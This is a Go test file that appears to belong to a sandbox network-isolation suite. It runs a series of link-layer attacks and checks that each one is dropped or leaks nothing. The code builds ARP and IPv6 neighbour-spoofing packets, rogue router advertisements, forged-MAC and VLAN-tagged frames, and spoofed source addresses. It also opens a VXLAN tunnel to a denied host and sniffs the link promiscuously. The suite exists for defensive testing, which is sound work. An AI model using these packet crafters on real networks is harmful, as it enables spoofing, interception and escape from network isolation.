//go:build linux

package gauntlet

import (
	"bytes"
	"crypto/sha256"
	"net"
	"net/netip"
	"os"
	"time"

	"github.com/vishvananda/netlink"
	"golang.org/x/sys/unix"
)

// forgedMAC is a hardware address that only this attack uses.
func forgedMAC(token string) net.HardwareAddr {
	h := sha256.Sum256([]byte(token))
	return append(net.HardwareAddr{0x02}, h[:5]...)
}

// linkRows lie about who sits where on the link.
func linkRows() []Row {
	return []Row{
		onTheLink(Row{
			ID: "packets/forged-mac", Vector: "a frame with somebody else's hardware address", Right: "it means nothing: the descriptor is the identity, and no frame of the sandbox reaches the host's link",
			Source: "security.md 2.4",
			Prepare: func(s *Stage) error {
				mac := forgedMAC(s.Token)
				return s.watchWire(func(f []byte) bool { return bytes.Equal(f[6:12], mac) })
			},
			Harm: onWire(1),
		}, func(a *Attacker, w *wire) error {
			return w.frameTo(w.gateway, forgedMAC(a.Token), unix.ETH_P_IP, w.udp4(Shop, "hello").bytes())
		}),
		onTheLink(Row{
			ID: "packets/past-the-gateway", Vector: "a frame to a hardware address that is not the gateway's", Right: "dropped and counted",
			Prepare: func(s *Stage) error {
				return s.World.Internet(func() error {
					router, err := net.InterfaceByName(uplink)
					if err == nil {
						s.Args["router"] = router.HardwareAddr.String()
					}
					return err
				})
			},
			Harm: Heard, Record: dropped("drop-foreign-mac"),
		}, func(a *Attacker, w *wire) error {
			router, err := net.ParseMAC(a.Args["router"])
			if err != nil {
				return err
			}
			return w.frameTo(router, w.mac, unix.ETH_P_IP, w.udp4(Shop, a.Token).bytes())
		}),
		onTheLink(Row{
			ID: "packets/arp-spoof", Vector: "ARP that claims another address of the link", Right: "nobody outside learns it",
			Source: "security.md 2.4",
			Harm:   learnedBy(unix.AF_INET), Record: dropped("drop-arp"),
		}, func(a *Attacker, w *wire) error {
			mac := forgedMAC(a.Token)
			b := []byte{0, 1, 8, 0, 6, 4, 0, 1}
			b = append(append(append(b, mac...), 192, 0, 2, 78), 0, 0, 0, 0, 0, 0, 192, 0, 2, 1)
			return w.frameTo(net.HardwareAddr{255, 255, 255, 255, 255, 255}, mac, unix.ETH_P_ARP, b)
		}),
	}
}

// neighbourRows do so in IPv6, or behind a tag.
func neighbourRows() []Row {
	return []Row{
		onTheLink(Row{
			ID: "packets/ndp-spoof", Vector: "a neighbour solicitation that claims another IPv6 address", Right: "nobody outside learns it",
			Source: "security.md 2.4",
			Harm:   learnedBy(unix.AF_INET6), Record: dropped("drop-ndp"),
		}, func(a *Attacker, w *wire) error {
			router := netip.MustParseAddr("2001:db8::1")
			all, src := netip.MustParseAddr("ff02::1:ff00:1"), netip.MustParseAddr("2001:db8::78")
			message := append([]byte{135, 0, 0, 0, 0, 0, 0, 0}, router.AsSlice()...)
			message = append(append(message, 1, 1), forgedMAC(a.Token)...)
			p := ip6{src: src, dst: all, next: unix.IPPROTO_ICMPV6, hops: 255, payload: icmp6(src, all, message)}
			return w.frameTo(net.HardwareAddr{0x33, 0x33, 0xff, 0, 0, 1}, forgedMAC(a.Token), unix.ETH_P_IPV6, p.bytes())
		}),
		onTheLink(Row{
			ID: "packets/router-advertisement", Vector: "a router advertisement with a prefix of the attacker's", Right: "nobody outside configures itself by it",
			Source: "security.md 2.4",
			Prepare: func(s *Stage) error {
				s.Defer(func() { acceptAdvertisements(s.World, "0") })
				return acceptAdvertisements(s.World, "2")
			},
			Harm: func(s *Stage) bool { return hasPrefix(s.World, advertised(s.Token)) }, Record: dropped("drop-ndp"),
		}, func(a *Attacker, w *wire) error {
			all, src := netip.MustParseAddr("ff02::1"), netip.MustParseAddr("fe80::77")
			message := []byte{134, 0, 0, 0, 64, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0}
			message = append(message, 3, 4, 64, 0x40, 0, 0, 0, 5, 0, 0, 0, 5, 0, 0, 0, 0) // autonomous, for 5 s
			message = append(message, advertised(a.Token).AsSlice()...)
			p := ip6{src: src, dst: all, next: unix.IPPROTO_ICMPV6, hops: 255, payload: icmp6(src, all, message)}
			return w.frameTo(net.HardwareAddr{0x33, 0x33, 0, 0, 0, 1}, forgedMAC(a.Token), unix.ETH_P_IPV6, p.bytes())
		}),
		onTheLink(Row{
			ID: "packets/vlan-tag", Vector: "an IP packet behind an 802.1Q tag", Right: "dropped and counted",
			Prepare: tokenOnWire, Harm: onWire(1), Record: dropped("drop-ethertype"),
		}, func(a *Attacker, w *wire) error {
			return w.frame(unix.ETH_P_8021Q, append([]byte{0, 5, 8, 0}, w.udp4(Shop, a.Token).bytes()...))
		}),
	}
}

// addressRows have the kernel of the sandbox send what it should not.
func addressRows() []Row {
	return []Row{
		onTheLink(Row{
			ID: "packets/second-address", Vector: "give the link a second address and send from it", Right: "the source is not the sandbox's: dropped and counted",
			Source: "gvisor-tap-vsock SetSpoofing",
			Harm:   Heard, Record: dropped("drop-spoofed-source"),
		}, func(a *Attacker, w *wire) error {
			addr := &netlink.Addr{IPNet: &net.IPNet{IP: net.IP{192, 0, 2, 79}, Mask: net.CIDRMask(32, 32)}}
			if err := netlink.AddrAdd(w.link, addr); err != nil {
				return err
			}
			defer netlink.AddrDel(w.link, addr)
			return sendFrom(net.IP{192, 0, 2, 79}, nil, a.Token)
		}),
		onTheLink(Row{
			ID: "packets/transparent-socket", Vector: "a socket bound to a foreign address by IP_TRANSPARENT", Right: "dropped and counted",
			Harm: Heard, Record: dropped("drop-spoofed-source"),
		}, func(a *Attacker, _ *wire) error {
			return sendFrom(nobody4.AsSlice(), func(fd int) error { return unix.SetsockoptInt(fd, unix.SOL_IP, unix.IP_TRANSPARENT, 1) }, a.Token)
		}),
		onTheLink(Row{
			ID: "packets/tunnel-link", Vector: "a new link inside: a VXLAN tunnel to a server that is denied", Right: "what carries the tunnel is a flow, and is judged",
			Lacks:   func() string { return lacksLink(&netlink.Vxlan{VxlanId: 1, Port: 4789}) },
			Prepare: tokenOnWire, Harm: onWire(1), Record: deniedAt(Evil, "dest_port=4789 protocol=udp"),
		}, overTunnel),
		{
			ID: "packets/promiscuous", Vector: "listen on the link for the host's own traffic", Right: "the link has only what the sandbox itself says",
			Leaked: true,
			Prepare: func(s *Stage) error {
				over := make(chan struct{})
				s.Defer(func() { close(over) })
				go func() {
					for tick := time.NewTicker(10 * time.Millisecond); ; {
						select {
						case <-over:
							tick.Stop()
							return
						case <-tick.C:
							sendFrom(nil, nil, s.Token)
						}
					}
				}()
				return nil
			},
			Attack: func(a *Attacker) error {
				w, err := openWire()
				if err != nil {
					return err
				}
				defer w.close()
				if err := unix.SetsockoptPacketMreq(w.fd, unix.SOL_PACKET, unix.PACKET_ADD_MEMBERSHIP, &unix.PacketMreq{Ifindex: int32(w.index), Type: unix.PACKET_MR_PROMISC}); err != nil {
					return err
				}
				unix.SetsockoptTimeval(w.fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Usec: 50_000})
				b := make([]byte, 70_000)
				for end := time.Now().Add(time.Second); time.Now().Before(end); {
					if n, _, err := unix.Recvfrom(w.fd, b, 0); err == nil && bytes.Contains(b[:n], []byte(a.Token)) {
						return nil
					}
				}
				return a.contains(nil)
			},
		},
	}
}

// learnedBy is a Harm: the host's router has an entry with the forged hardware address.
func learnedBy(family int) func(*Stage) bool {
	return func(s *Stage) bool {
		found := false
		s.World.Internet(func() error {
			list, err := netlink.NeighList(0, family)
			for _, n := range list {
				found = found || bytes.Equal(n.HardwareAddr, forgedMAC(s.Token))
			}
			return err
		})
		return found
	}
}

// acceptAdvertisements tells the host's router whether to listen to others.
func acceptAdvertisements(w *World, mode string) error {
	return w.Internet(func() error {
		return os.WriteFile("/proc/sys/net/ipv6/conf/"+uplink+"/accept_ra", []byte(mode), 0)
	})
}

// advertised is a prefix of the attacker's, /64.
func advertised(token string) netip.Addr {
	mac := forgedMAC(token)
	return netip.AddrFrom16([16]byte{0x20, 0x01, 0x0d, 0xb8, mac[1], mac[2], mac[3], mac[4]})
}

func hasPrefix(w *World, prefix netip.Addr) bool {
	found := false
	w.Internet(func() error {
		link, err := netlink.LinkByName(uplink)
		if err != nil {
			return err
		}
		list, err := netlink.AddrList(link, netlink.FAMILY_V6)
		for _, a := range list {
			found = found || bytes.Equal(a.IP[:8], prefix.AsSlice()[:8])
		}
		return err
	})
	return found
}

// sendFrom says the text to the shop in a datagram of a socket that was bound to an address, any for nil.
func sendFrom(from net.IP, prepare func(fd int) error, text string) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if prepare != nil {
		if err := prepare(fd); err != nil {
			return err
		}
	}
	if from != nil {
		if err := unix.Bind(fd, &unix.SockaddrInet4{Addr: [4]byte(from.To4())}); err != nil {
			return err
		}
	}
	return unix.Sendto(fd, []byte(text), 0, &unix.SockaddrInet4{Port: 7, Addr: Shop.As4()})
}

// overTunnel says the token to the far end of a tunnel to Evil.
func overTunnel(a *Attacker, w *wire) error {
	local := net.IP(w.addr4.AsSlice())
	link := &netlink.Vxlan{LinkAttrs: netlink.LinkAttrs{Name: "tunnel0", HardwareAddr: forgedMAC(a.Token)}, VxlanId: 5, Port: 4789,
		SrcAddr: local, Group: net.IP(Evil.AsSlice()), VtepDevIndex: w.index}
	if err := netlink.LinkAdd(link); err != nil {
		return err
	}
	defer netlink.LinkDel(link)
	if err := netlink.LinkSetUp(link); err != nil {
		return err
	}
	inner := netip.MustParseAddr("172.31.99.1")
	packet := ip4{src: inner, dst: inner.Next(), protocol: unix.IPPROTO_UDP, payload: udpSegment(inner, inner.Next(), 7, a.Token)}.bytes()
	to := net.HardwareAddr{0x02, 0, 0, 0, 0, 1}
	tunnel := &wire{index: link.Index, mac: link.HardwareAddr, gateway: to}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, int(everyType))
	if err != nil {
		return err
	}
	tunnel.fd = fd
	defer tunnel.close()
	for range 5 { // a link that was just set up may lose the first ones
		if err := tunnel.packet(packet); err != nil {
			return err
		}
		time.Sleep(10 * time.Millisecond)
	}
	return nil
}

// lacksLink says whether the kernel has no such links.
func lacksLink(l netlink.Link) string {
	l.Attrs().Name = "probe0"
	if err := netlink.LinkAdd(l); err != nil {
		return "links of type " + l.Type()
	}
	netlink.LinkDel(l)
	return ""
}
